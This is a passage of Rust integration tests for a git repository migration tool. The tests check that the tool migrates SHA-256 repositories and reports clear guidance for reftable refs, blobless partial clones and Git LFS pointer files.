    assert!(!stale_object.exists(), "an hour-old object temporary stays");
    assert!(fresh_object.exists(), "an object temporary that may be in use went");
    assert!(gits_own.exists(), "git's own temporary went");
    let out = tool(&["apply", &path(&repo)]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let fsck = repo.git_output(&["fsck", "--full"]);
    assert!(fsck.status.success(), "{}", text(&fsck.stderr));
}

/// Repositories gix reads differently from git: a SHA-256 repository is migrated like
/// any other; reftable refs, a blobless partial clone and a Git LFS pointer each stop
/// with what they are and what to do.
#[test]
fn unusual_repository_formats_work_or_say_what_to_do() {
    let init = |args: &[&str]| {
        let repo = TempRepo::new();
        std::fs::remove_dir_all(repo.path.join(".git")).unwrap();
        repo.git(&[&["init", "-q", "-b", "main"], args].concat());
        repo.git(&["config", "user.name", NAME]);
        repo.git(&["config", "user.email", EMAIL]);
        repo.write("Procfile", "web: node index.js\n");
        repo.write("package.json", "{ \"name\": \"x\" }\n");
        repo.commit_all("App");
        repo
    };

    let sha256 = init(&["--object-format=sha256"]);
    let out = tool(&["apply", &path(&sha256)]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let fsck = sha256.git_output(&["fsck", "--full"]);
    assert!(fsck.status.success(), "{}", text(&fsck.stderr));
    let blob = sha256.git(&["rev-parse", "code-capsules-migration:CODE_CAPSULES.md"]);
    let patch = text(&tool(&["diff", &path(&sha256)]).stdout);
    assert!(patch.contains(&format!("index 0000000..{}", &blob[..7])), "{patch}");

    let reftable = init(&["--ref-format=reftable"]);
    let out = tool(&["plan", &path(&reftable)]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("stores its refs in the reftable format"), "{stderr}");
    assert!(stderr.contains("refs migrate --ref-format=files"), "{stderr}");

    let origin = init(&[]);
    origin.write("web/Procfile", "web: node b.js\n");
    origin.write("web/package.json", "{ \"name\": \"web\" }\n");
    origin.commit_all("Second app");
    origin.git(&["config", "uploadpack.allowFilter", "true"]);
    let clone = origin.path.parent().unwrap().join("partial");
    let url = format!("file://{}", origin.path.display());
    let cloned = crate::support::repo::git()
        .args(["clone", "-q", "--filter=blob:none", "--sparse", &url])
        .arg(&clone)
        .status()
        .unwrap();
    assert!(cloned.success());
    let out = tool(&["plan", &clone.display().to_string()]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.starts_with("error: web/"), "{stderr}");
    assert!(stderr.contains("this is a partial clone"), "{stderr}");
    let fetch = format!("git -C {} fetch --refetch --no-filter origin", clone.display());
    assert!(stderr.contains(&fetch), "{stderr}");
    let fetched = Command::new("sh").args(["-c", &fetch]).status().unwrap();
    assert!(fetched.success());
    assert_eq!(tool(&["plan", &clone.display().to_string()]).status.code(), Some(0));

    let lfs = init(&[]);
    lfs.write(
        "package.json",
        "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
    );
    lfs.commit_all("LFS");
    let out = tool(&["plan", &path(&lfs)]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.starts_with("error: package.json: is a Git LFS pointer"), "{stderr}");
    assert!(stderr.contains("git lfs untrack"), "{stderr}");
}
